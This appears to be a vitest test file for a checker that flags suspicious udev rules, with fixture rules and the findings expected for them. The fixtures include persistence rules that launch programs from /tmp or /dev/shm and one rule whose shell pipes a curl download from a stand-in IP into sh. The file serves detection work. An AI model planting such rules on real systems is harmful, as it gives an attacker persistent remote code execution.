import { expect, it } from 'vitest';
import { tellsOf } from '../../../test/plant-rows.ts';
import { programsOfRules, udev } from './check.ts';

tellsOf(udev, {
  rows: {
    'a rule that starts a program in /tmp': { files: { '/etc/udev/rules.d/10-x.rules': 'ACTION=="add", SUBSYSTEM=="net", RUN+="/tmp/.x/agent"\n' }, finds: ['intrusion high /etc/udev/rules.d/10-x.rules'] },
    'one that asks a shell to fetch and run': { files: { '/run/udev/rules.d/60-net.rules': 'KERNEL=="random", PROGRAM=="/bin/sh -c \'curl http://203.0.113.4/a | sh\'"\n' }, finds: ['intrusion high /run/udev/rules.d/60-net.rules'] },
    'one in a folder of packages': { files: { '/usr/lib/udev/rules.d/99-u.rules': 'IMPORT{program}="/dev/shm/u"\n' }, finds: ['intrusion high /usr/lib/udev/rules.d/99-u.rules'] },
    'one that anybody may write': { files: { '/etc/udev/rules.d/20-open.rules': { text: '# nothing\n', mode: 0o666 } }, finds: ['weakness high /etc/udev/rules.d/20-open.rules'] },
  },
  ordinary: {
    '/etc/udev/rules.d/70-persistent-net.rules': 'SUBSYSTEM=="net", ACTION=="add", ATTR{address}=="52:54:00:12:34:56", NAME="eth0"\n',
    '/etc/udev/rules.d/80-disk.rules': 'KERNEL=="sd?", RUN{builtin}+="kmod load sg", RUN+="/usr/local/bin/disk-added %k"\n',
    '/usr/local/bin/disk-added': { text: '#!/bin/sh\nlogger "disk $1"\n', mode: 0o755 },
    '/usr/lib/udev/rules.d/50-default.rules': { text: 'RUN+="/tmp/of-a-package"\n', package: 'udev' },
  },
  reads: '/etc/udev/rules.d/10-x.rules',
});

it('takes rules apart: lines that go on, quotes, builtins left out', () => {
  const rules = 'ACTION=="add", \\\n  RUN+="/bin/sh -c \'echo $$HOME\'", RUN{builtin}="kmod"\nPROGRAM=e"/x \\"a b\\" c"\n# RUN+="/no"\n';
  expect([...programsOfRules(rules)].map(({ line, command }) => [line, command])).toEqual([[1, ['/bin/sh', '-c', 'echo $HOME']], [3, ['/x', 'a b', 'c']]]);
});
